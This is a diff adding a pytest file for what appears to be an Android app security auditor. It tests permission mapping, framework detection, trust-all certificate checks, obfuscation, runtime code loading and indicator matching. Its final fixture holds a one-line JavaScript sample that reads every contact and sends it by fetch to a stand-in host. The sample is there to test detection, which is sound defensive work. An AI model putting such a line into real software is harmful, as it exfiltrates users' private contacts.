@@ -1,0 +1,239 @@
+"""Permissions, frameworks, certificate checks, renaming, code loaded later, indicators."""
+
+from __future__ import annotations
+
+import pytest
+
+from auditor.catalog import Catalog
+from auditor.facts.collect import collect_facts
+from auditor.facts.dynamic import dynamic_code_limits
+from auditor.facts.entries import FrameworkEntry, HostEntry, IndicatorEntry, PackerEntry
+from auditor.facts.frameworks import detect_frameworks
+from auditor.facts.indicators import match_indicators
+from auditor.facts.libraries import Owners
+from auditor.facts.names import HostMap, Paths, PrefixMap, glob_matches
+from auditor.facts.obfuscation import measure_obfuscation
+from auditor.facts.permissions import permission_facts
+from auditor.facts.tls import TlsFact, tls_facts
+from auditor.model import Manifest, PermissionRequest, PermissionUse
+from tests.facts_fixture import FakeCode, manifest, package, place
+
+CATALOG = Catalog()
+NOBODY = Owners(())
+DEX_LOADER = ("Ldalvik/system/DexClassLoader;", "<init>")
+
+
+def test_permissions_open_data_types() -> None:
+    of = manifest(
+        permissions=[
+            PermissionRequest("android.permission.READ_SMS", 28),
+            PermissionRequest("android.permission.READ_SMS", 22),
+            PermissionRequest("android.permission.READ_CONTACTS", 22),
+            PermissionRequest("android.permission.READ_CONTACTS"),
+            PermissionRequest("android.permission.INTERNET"),
+        ]
+    )
+    assert permission_facts(of, CATALOG) == (
+        PermissionUse("android.permission.INTERNET"),
+        PermissionUse("android.permission.READ_CONTACTS", ("contacts",)),
+        PermissionUse("android.permission.READ_SMS", ("sms",), 28),
+    )
+
+
+@pytest.mark.parametrize(
+    ("files", "classes", "name", "expected"),
+    [
+        pytest.param({}, ["Lcom/a/B;"], "com.a", [], id="plain"),
+        pytest.param({"lib/arm64-v8a/libflutter.so": b""}, [], "com.a", ["flutter"], id="Flutter"),
+        pytest.param(
+            {"assets/index.android.bundle": b"x"},
+            ["Lcom/facebook/react/A;"],
+            "com.a",
+            ["react_native"],
+            id="React Native",
+        ),
+        pytest.param({}, ["Lio/dcloud/A;"], "uni.UNI04A1B2C", ["uni_app"], id="uni-app"),
+        pytest.param(
+            {"assets/www/cordova.js": b""},
+            ["Lorg/apache/cordova/A;"],
+            "com.a",
+            ["cordova"],
+            id="Cordova",
+        ),
+        pytest.param(
+            {"assets/capacitor.config.json": b""},
+            ["Lcom/getcapacitor/A;"],
+            "com.a",
+            ["capacitor"],
+            id="Capacitor",
+        ),
+        pytest.param(
+            {"assemblies/App.dll": b""},
+            ["Lmono/MonoRuntimeProvider;"],
+            "com.a",
+            ["xamarin"],
+            id="Xamarin",
+        ),
+        pytest.param({"lib/arm64-v8a/libunity.so": b""}, [], "com.a", ["unity"], id="Unity"),
+        pytest.param({}, ["Lcom/e4a/runtime/A;"], "com.a", ["e4a"], id="E4A"),
+        pytest.param(
+            {"assets/widget/config.xml": b""},
+            ["Lorg/zywx/wbpalmstar/A;"],
+            "com.a",
+            ["apicloud", "appcan"],
+            id="AppCan",
+        ),
+    ],
+)
+def test_frameworks(
+    files: dict[str, bytes], classes: list[str], name: str, expected: list[str]
+) -> None:
+    found, _ = detect_frameworks(package(files, manifest(name)), FakeCode(classes), CATALOG)
+    assert [f.id for f in found] == expected
+
+
+def test_unread_code_is_a_limit() -> None:
+    held = package({"lib/arm64-v8a/libapp.so": b"", "lib/arm64-v8a/libflutter.so": b""})
+    found, limits = detect_frameworks(held, FakeCode(), CATALOG)
+    assert [f.visible for f in found] == [False]
+    assert [(x.kind, x.where) for x in limits] == [("hybrid", "lib/arm64-v8a/libapp.so")]
+
+
+def test_scripts_that_are_not_there_are_a_limit() -> None:
+    _, limits = detect_frameworks(package(), FakeCode(["Lio/dcloud/A;"]), CATALOG)
+    assert [(x.kind, x.where) for x in limits] == [("hybrid", "uni_app")]
+    assert "not in the package" in limits[0].why
+
+
+def test_page_shell_only_when_the_code_opens_the_page() -> None:
+    held = package({"assets/h5/index.html": b"<html>", "assets/licenses.html": b""})
+    assert detect_frameworks(held, FakeCode(), CATALOG)[0] == ()
+    code = FakeCode(strings={"file:///android_asset/h5/index.html": []})
+    assert [f.id for f in detect_frameworks(held, code, CATALOG)[0]] == ["h5_shell"]
+
+
+def test_certificate_checks_switched_off() -> None:
+    trust, verifier = "Ljavax/net/ssl/X509TrustManager;", "Ljavax/net/ssl/HostnameVerifier;"
+    code = FakeCode(
+        implementors={trust: ["La/T;", "La/U;"], verifier: ["La/V;", "La/W;"]},
+        shapes={
+            ("La/T;", "checkServerTrusted"): "empty",
+            ("La/U;", "checkServerTrusted"): "other",
+            ("La/V;", "verify"): "true",
+            ("La/W;", "verify"): "other",
+        },
+    )
+    of = Manifest(package="com.a", cleartext=True, user_certificates=True)
+    assert tls_facts(of, code, NOBODY) == (
+        TlsFact("any_hostname", "La/V;", "app", "its verify accepts every host name"),
+        TlsFact("cleartext", "AndroidManifest.xml", "app", "the app permits unencrypted traffic"),
+        TlsFact("trust_all", "La/T;", "app", "its checkServerTrusted accepts every certificate"),
+        TlsFact(
+            "user_certificates",
+            "network_security_config",
+            "app",
+            "the app trusts certificates that the user installed",
+        ),
+    )
+
+
+@pytest.mark.parametrize(
+    ("names", "level", "short"),
+    [
+        pytest.param([f"com/app/Screen{n}" for n in range(20)], "none", 0, id="plain"),
+        pytest.param([f"a/{chr(97 + n)}" for n in range(20)], "heavy", 20, id="R8"),
+        pytest.param([f"a/{'lI' * 4}{n * 'I'}" for n in range(20)], "heavy", 20, id="look-alikes"),
+        pytest.param(
+            [f"a/{chr(0x4E00 + n)}{chr(0x4E10)}费" for n in range(20)],
+            "none",
+            0,
+            id="Chinese names",
+        ),
+        pytest.param(["a/a", "a/b"], "none", 2, id="too few to say"),
+    ],
+)
+def test_obfuscation(names: list[str], level: str, short: int) -> None:
+    found = measure_obfuscation([f"L{n};" for n in names], NOBODY)
+    assert (found.level, found.short, bool(found.effect)) == (level, short, level != "none")
+
+
+def test_code_loaded_at_run_time() -> None:
+    at = place("Lcom/suixinhua/app/Plug;->go()V", 12)
+    limits = dynamic_code_limits(package(), FakeCode(calls={DEX_LOADER: [at]}), NOBODY, ())
+    assert [(x.kind, x.where) for x in limits] == [
+        ("dynamic_code", "Lcom/suixinhua/app/Plug;->go()V@12")
+    ]
+    assert dynamic_code_limits(package(), FakeCode(), NOBODY, ()) == ()
+
+
+def test_indicators_show_source_and_date() -> None:
+    of = manifest("com.loanbee")
+    urls = ["https://api.loanbee.tech/v1", "http://43.129.40.194:8888/x"]
+    found = match_indicators(package(of=of), urls, CATALOG)
+    assert [(m.kind, m.value, m.date, m.where) for m in found] == [
+        ("host", "43.129.40.194:8888", "2022", "http://43.129.40.194:8888/x"),
+        ("host", "api.loanbee.tech", "2022-11-30", "https://api.loanbee.tech/v1"),
+        ("package", "com.loanbee", "2022-11-30", "package name"),
+    ]
+    assert all(m.source for m in found)
+    assert match_indicators(package(), ["https://sub.api.loanbee.tech/"], CATALOG) == ()
+
+
+@pytest.mark.parametrize(
+    ("pattern", "text", "fits"),
+    [
+        ("a*c", "abc", True),
+        ("a*c", "ac", True),
+        ("a*c", "acb", False),
+        ("*.a.com", "x.a.com", True),
+        ("ab*ba", "aba", False),
+        ("a" + "*a" * 30, "a" * 60 + "b", False),
+    ],
+)
+def test_globs(pattern: str, text: str, fits: bool) -> None:
+    assert glob_matches(pattern, text) is fits
+
+
+def test_maps() -> None:
+    prefixes = PrefixMap.of([("com.a", 1), ("com.a.b.", 2)])
+    assert [prefixes.find(n) for n in ("com.a.c.D", "com.a.b", "com.ab.C", "com")] == [
+        1,
+        2,
+        None,
+        None,
+    ]
+    hosts = HostMap.of([("a.com", 1), ("*.a.com", 2), ("s3-*.a.com", 3)])
+    assert [hosts.find(h) for h in ("a.com", "x.y.a.com", "s3-eu.a.com", "ba.com")] == [
+        1,
+        2,
+        3,
+        None,
+    ]
+    paths = Paths(["lib/x86/libjiagu.so", "assets/a.txt"])
+    assert paths.matching(["libjiagu*.so"], [r"assets/.\.txt"]) == [
+        "assets/a.txt",
+        "lib/x86/libjiagu.so",
+    ]
+
+
+def test_every_catalog_file_is_valid() -> None:
+    kinds = {
+        "packers": PackerEntry,
+        "frameworks": FrameworkEntry,
+        "hosts": HostEntry,
+        "indicators": IndicatorEntry,
+    }
+    assert {
+        name: len(CATALOG.entries(name, kind)) > 5 for name, kind in kinds.items()
+    } == dict.fromkeys(kinds, True)
+
+
+def test_collect_is_the_same_on_every_run() -> None:
+    script = b"navigator.contacts.find(['*'],function(c){fetch('https://a.example/x',{body:c})});"
+    held = package({"assets/www/cordova.js": b"", "assets/www/a.js": script})
+    code = FakeCode(["Lorg/apache/cordova/A;"], {"https://b.example/": []})
+    first = collect_facts(held, code, CATALOG)
+    assert first == collect_facts(held, code, CATALOG)
+    assert first.urls.endpoints == ("https://b.example/",)
+    assert [f.endpoint for f in first.hybrid.flows] == ["https://a.example/x"]
+    assert [e.data_types for e in first.hybrid.endpoints] == [("contacts",)]
